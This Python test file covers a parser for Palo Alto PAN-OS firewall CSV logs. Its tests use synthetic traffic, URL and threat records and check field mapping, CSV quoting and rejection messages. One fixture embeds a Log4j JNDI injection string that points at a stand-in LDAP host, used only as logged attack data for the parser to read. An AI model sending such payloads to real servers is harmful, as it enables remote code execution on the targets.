"""PAN-OS CSV parser: TRAFFIC and THREAT records, quoting, headers, rejects, detection."""

from __future__ import annotations

from datetime import UTC, datetime

import polars as pl
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.boundary.parsers import PARSERS, ParseContext, ParseResult, detect_format, get_parser
from bastion.core.events import EVENT_SCHEMA, LINE_COLUMN

PANOS = get_parser("panos").parse
EICAR_SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"

# Field positions from the PAN-OS 10.x syslog field lists; unnamed positions stay empty.
TRAFFIC_FIELDS = {
    0: "1",
    1: "2025/11/25 13:01:02",  # receive time
    2: "012801234567",  # serial
    3: "TRAFFIC",
    4: "end",
    5: "2561",
    6: "2025/11/25 13:01:01",  # generated time
    7: "10.20.30.40",  # source
    8: "93.184.216.34",  # destination
    9: "203.0.113.10",  # NAT source
    10: "93.184.216.34",  # NAT destination
    11: "allow-web",  # rule
    12: "nhs\\alice",  # source user
    14: "ssl",  # application
    15: "vsys1",
    16: "trust",
    17: "untrust",
    18: "ethernet1/2",
    19: "ethernet1/1",
    20: "fwd-bastion",  # log action
    22: "334455",  # session id
    23: "1",  # repeat count
    24: "51515",  # source port
    25: "443",  # destination port
    26: "40000",
    27: "443",
    28: "0x400053",
    29: "tcp",
    30: "allow",
    31: "5234",  # bytes
    32: "1200",  # bytes sent
    33: "4034",  # bytes received
    34: "24",  # packets
    35: "2025/11/25 13:00:50",  # start time
    36: "11",  # elapsed
    37: "computer-and-internet-info",
    39: "7200000000000000001",
    40: "0x0",
    41: "10.0.0.0-10.255.255.255",
    42: "United States",
    44: "12",
    45: "12",
    46: "tcp-fin",
    52: "pa-bdr-01",  # device name
    53: "from-policy",
    64: "5f1c0d2e-6a41-4b8e-9d7a-0c3e2b1a9f01",  # rule uuid
}
URL_FIELDS = {
    **{i: v for i, v in TRAFFIC_FIELDS.items() if i <= 30},
    1: "2025/11/25 13:02:00",
    3: "THREAT",
    4: "url",
    6: "2025/11/25 13:01:59",
    7: "10.20.30.41",
    8: "198.51.100.23",
    14: "web-browsing",
    24: "51516",
    25: "80",
    30: "block-url",
    31: '"Evil.Example.net./dl/a,b.exe?x=1"',  # URL, always quoted
    32: "(9999)",  # threat id: URL records have no threat name
    33: "malware",  # URL category
    34: "informational",
    35: "client-to-server",
    41: "application/octet-stream",
    45: "1",
    46: '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"',
    49: '"http://ref.example/"',
    59: "pa-bdr-02",  # device name
    63: "get",  # HTTP method
    69: "unknown",
    77: "5f1c0d2e-6a41-4b8e-9d7a-0c3e2b1a9f01",
}
VIRUS_FIELDS = {
    **URL_FIELDS,
    4: "virus",
    7: "198.51.100.23",
    8: "10.20.30.41",
    24: "80",
    25: "51517",
    30: "reset-both",
    31: '"eicar.com"',  # file name
    32: "Eicar Test File(39040)",
    33: "any",
    34: "medium",
    35: "server-to-client",
    43: EICAR_SHA256,
    46: "",
    49: "",
    63: "",
}


def record(fields: dict[int, str], count: int = 80) -> str:
    return ",".join(fields.get(i, "") for i in range(count))


TRAFFIC = "<14>Nov 25 13:01:02 pa-bdr-01 " + record(TRAFFIC_FIELDS)
URL = "<14>Nov 25 13:02:00 pa-bdr-02 " + record(URL_FIELDS)
VIRUS = record(VIRUS_FIELDS)


def parse(lines: list[str]) -> ParseResult:
    return PANOS(pl.Series(lines, dtype=pl.String), ParseContext(default_year=2025))


def row(line: str) -> dict[str, object]:
    result = parse([line])
    assert result.rejects.height == 0, result.rejects.to_dicts()
    return result.events.row(0, named=True)


def test_traffic_record_maps_every_field() -> None:
    result = parse([TRAFFIC])
    assert result.events.columns == [*EVENT_SCHEMA, LINE_COLUMN]
    assert result.events.row(0, named=True) == {
        **dict.fromkeys(EVENT_SCHEMA),
        "@timestamp": datetime(2025, 11, 25, 13, 1, 1, tzinfo=UTC),
        "event.dataset": "panos.traffic",
        "event.action": "allow",
        "event.type": "allowed",
        "observer.vendor": "Palo Alto Networks",
        "observer.product": "PAN-OS",
        "observer.name": "pa-bdr-01",
        "source.ip": "10.20.30.40",
        "source.port": 51515,
        "source.bytes": 1200,
        "destination.ip": "93.184.216.34",
        "destination.port": 443,
        "destination.bytes": 4034,
        "network.transport": "tcp",
        "network.protocol": "tls",
        "network.bytes": 5234,
        "rule.name": "allow-web",
        "source.nat.ip": "203.0.113.10",
        "source.nat.port": 40000,
        "destination.nat.ip": "93.184.216.34",
        "destination.nat.port": 443,
        "user.name": "alice",
        "user.domain": "nhs",
        "url.category": "computer-and-internet-info",
        "network.application": "ssl",
        "event.original": TRAFFIC,
        LINE_COLUMN: 0,
    }


def test_url_record_with_quoted_commas_maps_every_field() -> None:
    got = row(URL)
    assert got == {
        **dict.fromkeys(EVENT_SCHEMA),
        "@timestamp": datetime(2025, 11, 25, 13, 1, 59, tzinfo=UTC),
        "event.dataset": "panos.threat",
        "event.action": "block-url",
        "event.type": "denied",
        "observer.vendor": "Palo Alto Networks",
        "observer.product": "PAN-OS",
        "observer.name": "pa-bdr-02",
        "source.ip": "10.20.30.41",
        "source.port": 51516,
        "destination.ip": "198.51.100.23",
        "destination.port": 80,
        "network.transport": "tcp",
        "network.protocol": "http",
        "url.full": "http://Evil.Example.net./dl/a,b.exe?x=1",
        "url.domain": "evil.example.net",
        "url.path": "/dl/a,b.exe",
        "http.request.method": "GET",
        "user_agent.original": (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
        ),
        "rule.name": "allow-web",  # the security policy
        "source.nat.ip": "203.0.113.10",
        "source.nat.port": 40000,
        "destination.nat.ip": "93.184.216.34",
        "destination.nat.port": 443,
        "user.name": "alice",
        "user.domain": "nhs",
        "url.category": "malware",  # a URL record names no threat: threat.* stay null
        "network.application": "web-browsing",
        "event.original": URL,
        LINE_COLUMN: 0,
    }


def test_virus_record_names_the_threat_and_its_file_hash() -> None:
    got = row(VIRUS)
    assert (got["event.dataset"], got["event.action"], got["event.type"]) == (
        "panos.threat",
        "reset-both",
        "denied",
    )
    assert got["rule.name"] == "allow-web"  # the policy; the threat has fields of its own
    assert (got["threat.name"], got["threat.id"], got["threat.severity"]) == (
        "Eicar Test File",
        "39040",
        "medium",
    )
    assert got["threat.category"] == "unknown"
    assert got["url.category"] is None  # "any": no category looked up
    assert got["file.hash.sha256"] == EICAR_SHA256
    assert got["url.full"] is None  # the misc field is a file name here
    assert got["observer.name"] == "pa-bdr-02"  # no syslog header: the device name field
    assert (got["user_agent.original"], got["http.request.method"]) == (None, None)


def test_exploit_in_http_gives_the_url_it_targeted() -> None:
    exploit = {
        **VIRUS_FIELDS,
        4: "vulnerability",
        30: "reset-both",
        31: '"www.trust.nhs.uk/?id=${jndi:ldap://203.0.113.66:1389/b}"',
        32: "Apache Log4j Remote Code Execution Vulnerability(91991)",
        34: "critical",
        43: "",
    }
    got = row(record(exploit))
    assert got["rule.name"] == "allow-web"
    assert got["threat.name"] == "Apache Log4j Remote Code Execution Vulnerability"
    assert (got["threat.id"], got["threat.severity"]) == ("91991", "critical")
    assert got["url.full"] == "http://www.trust.nhs.uk/?id=${jndi:ldap://203.0.113.66:1389/b}"
    assert (got["url.domain"], got["url.path"]) == ("www.trust.nhs.uk", "/")
    assert got["file.hash.sha256"] is None


def test_record_without_header_takes_the_device_name() -> None:
    got = row(record(TRAFFIC_FIELDS))
    assert got["observer.name"] == "pa-bdr-01"
    assert got["source.ip"] == "10.20.30.40"


def test_rfc5424_header_with_commas_in_structured_data() -> None:
    line = '<14>1 2025-11-25T13:01:02Z fw-a - - - [meta@1 x="a,b"] ' + record(TRAFFIC_FIELDS)
    got = row(line)
    assert (got["observer.name"], got["destination.port"]) == ("fw-a", 443)
    header_with_commas = "<14>1 2025-11-25T13:01:02Z fw-a - - - [meta@1 x=a,b] "
    got = row(header_with_commas + record(TRAFFIC_FIELDS))
    assert (got["observer.name"], got["source.port"], got["rule.name"]) == (
        "fw-a",
        51515,
        "allow-web",
    )


def test_doubled_quotes_inside_a_quoted_field() -> None:
    fields = {**URL_FIELDS, 46: '"agent ""quoted"", v1"'}
    assert row(record(fields))["user_agent.original"] == 'agent "quoted", v1'


def test_record_the_csv_reader_refuses_is_still_split() -> None:
    # Text after a closing quote is not CSV; the batch falls back to splitting on commas.
    odd = record({**URL_FIELDS, 12: '"bob"x'})
    result = parse([odd, URL])
    assert result.rejects.height == 0
    by_line = {r[LINE_COLUMN]: r for r in result.events.iter_rows(named=True)}
    assert (
        by_line[0]["url.full"]
        == by_line[1]["url.full"]
        == "http://Evil.Example.net./dl/a,b.exe?x=1"
    )
    assert by_line[0]["user_agent.original"] == by_line[1]["user_agent.original"]


def test_malformed_records_are_rejected_and_good_ones_still_parse() -> None:
    lines = [
        TRAFFIC,
        record({**TRAFFIC_FIELDS, 3: "SYSTEM"}),
        "garbage, not a record",
        record({**URL_FIELDS, 31: '"unterminated,url'}),
        record({**TRAFFIC_FIELDS, 24: "http"}),
        record({**TRAFFIC_FIELDS, 31: "lots"}),
        record({**TRAFFIC_FIELDS, 6: "2025/13/45 99:00:00", 1: ""}),
        "",
        URL,
    ]
    result = parse(lines)
    assert sorted(result.events.get_column(LINE_COLUMN).to_list()) == [0, 8]
    assert dict(result.rejects.iter_rows()) == {
        1: "panos: PAN-OS SYSTEM records are not read, except authentications "
        "(event id 93.184.216.34; read: auth-fail, auth-success)",
        2: "panos: not a PAN-OS CSV record (need at least 7 comma-separated fields, "
        "the 7th a time like 2025/11/25 13:01:02)",
        3: "panos: unbalanced double quotes; a quoted field is not closed",
        4: "panos: source port http is not a port number",
        5: "panos: TRAFFIC bytes lots,1200,4034 are not numbers",
        6: "panos: generated time 2025/13/45 99:00:00 is not YYYY/MM/DD hh:mm:ss",
    }


_AGENTS = st.text(st.characters(blacklist_categories=["Cs", "Cc"]), min_size=1, max_size=40)


@settings(max_examples=20, deadline=None)
@given(agent=_AGENTS)
def test_any_quoted_user_agent_survives_csv_quoting(agent: str) -> None:
    quoted = '"' + agent.replace('"', '""') + '"'
    got = row(record({**URL_FIELDS, 46: quoted}))
    assert got["user_agent.original"] == agent


def test_sample_is_detected_as_panos_only() -> None:
    sample = [TRAFFIC, URL, VIRUS]
    assert [p.name for p in PARSERS.values() if p.sniff(sample)] == ["panos"]
    assert detect_format(sample).name == "panos"


def _cut_at_every_field(line: str) -> list[str]:
    """Return ``line`` cut after each of its commas: every way a record can lose its tail."""
    return [line[: i + 1].rstrip(",") for i, char in enumerate(line) if char == ","]


def test_records_short_of_their_log_types_fields_are_rejected() -> None:
    minimum = {"TRAFFIC": 65, "THREAT": 75}
    for line, kind in ((record(TRAFFIC_FIELDS), "TRAFFIC"), (URL, "THREAT"), (VIRUS, "THREAT")):
        short = [cut for cut in _cut_at_every_field(line) if cut.count(",") + 1 < minimum[kind]]
        short = [cut for cut in short if cut.count('"') % 2 == 0 and cut.count(",") >= 34]
        result = parse(short)
        assert result.events.height == 0, result.events.get_column("event.original").to_list()
        reasons = set(result.rejects.get_column("reason"))
        assert all(f"panos: {kind} record has " in reason for reason in reasons), reasons


def test_short_record_reason_says_how_many_fields_it_had_and_needed() -> None:
    traffic = record(TRAFFIC_FIELDS, 40)
    threat = record(URL_FIELDS, 60)  # quoted fields holding commas count as one field each
    assert dict(parse([traffic, threat]).rejects.iter_rows()) == {
        0: "panos: TRAFFIC record has 40 fields, needs at least 65 (the line was cut short?)",
        1: "panos: THREAT record has 60 fields, needs at least 75 (the line was cut short?)",
    }
    assert row(record(TRAFFIC_FIELDS, 65))["event.dataset"] == "panos.traffic"
    assert row(record(URL_FIELDS, 75))["event.dataset"] == "panos.threat"


def test_chunk_read_as_bytes_rejects_short_records_wherever_they_are() -> None:
    from bastion.boundary.lines import split_lines

    short = [record(TRAFFIC_FIELDS, 50), record(URL_FIELDS, 70)]
    for lines in ([*short, TRAFFIC, URL], [TRAFFIC, *short, URL], [URL, TRAFFIC, *short]):
        data = "".join(f"{line}\n" for line in lines).encode()
        result = get_parser("panos").read(split_lines(data), ParseContext(default_year=2025))
        assert result.events.height == 2
        assert sorted(result.rejects.get_column("reason").str.slice(0, 27)) == [
            "panos: THREAT record has 70",
            "panos: TRAFFIC record has 5",
        ]


def test_a_huge_field_is_quoted_capped_in_the_reason() -> None:
    huge = "9" * 1_000_000
    [reason] = parse([record({**TRAFFIC_FIELDS, 24: "x" + huge})]).rejects.get_column("reason")
    assert reason == f"panos: source port x{'9' * 199}…(1000001 bytes) is not a port number"
